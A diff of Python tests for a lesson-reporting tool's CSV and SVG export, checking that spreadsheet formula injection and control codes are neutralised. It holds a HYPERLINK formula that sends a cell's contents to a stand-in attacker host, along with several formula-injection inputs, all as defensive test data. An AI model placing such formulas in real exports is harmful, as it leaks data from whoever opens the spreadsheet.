@@ -26,7 +26,7 @@ EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
         ("+7", "'+7"),
         ("-3", "'-3"),
         ("@SUM(A1)", "'@SUM(A1)"),
-        ("\t=x", "'\t=x"),
+        ("\t=x", "'\t'=x"),  # read as tab-separated, "=x" would be a cell of its own
         ("Aida", "Aida"),
         ("<script>alert(1)</script>", "<script>alert(1)</script>"),
         (12.5, "12.5"),
@@ -87,3 +87,33 @@ def test_listening_has_its_own_colour_on_the_timeline() -> None:
     assert listening not in {c for s, c in COLOURS.items() if s != "listening"}
     assert svg.count(f'fill="{listening}"') == 2  # the bar and the legend's swatch
     assert "угуп турду" in svg
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("a;=1+1;", "a;'=1+1;"),
+        ("a,+SUM(A1)", "a,'+SUM(A1)"),
+        ('x; "@cmd', "x; \"'@cmd"),
+        ("a\t-2", "a\t'-2"),
+        ("Aida; Bek", "Aida; Bek"),
+    ],
+)
+def test_a_cell_is_safe_whatever_separator_the_spreadsheet_uses(value: str, cell: str) -> None:
+    assert safe_cell(value) == cell
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
+def test_no_piece_of_a_line_starts_a_formula_when_split_by(separator: str) -> None:
+    report = report_with(["a;=1+1;", "b\t@x", "c|+y", 'd;"=z'])
+    text = lesson_csv({"id": "L", "title": "x;-1"}, report)
+    for line in text.splitlines()[1:]:
+        pieces = [p.strip(' "') for p in line.split(separator)]
+        assert not any(p.startswith(("=", "+", "-", "@")) for p in pieces), (separator, line)
+
+
+def test_the_timeline_survives_a_name_stored_with_control_codes() -> None:
+    report = report_with(["Ali\x00ya\x1b[1m", "Bek"])
+    svg = timeline_svg("Lesson\x00", report, {})
+    xml.dom.minidom.parseString(svg)  # well-formed despite the NUL and ESC
+    assert "Aliya[1m" in svg
